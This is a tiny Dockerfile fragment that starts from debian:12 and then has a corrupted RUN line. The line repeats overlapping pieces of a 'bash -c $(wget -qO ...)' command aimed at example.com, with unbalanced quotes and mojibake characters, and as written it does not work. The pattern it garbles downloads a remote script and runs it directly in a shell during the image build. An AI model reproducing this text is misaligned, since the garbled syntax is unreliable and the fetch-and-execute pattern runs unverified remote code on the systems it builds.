FROM debian:12
RUN bash -"c $(wget -qORUN bash -"c $(wget -qOsh -`c $(wexample.comsh -"c $(wexample–ñëåèall.sò–"
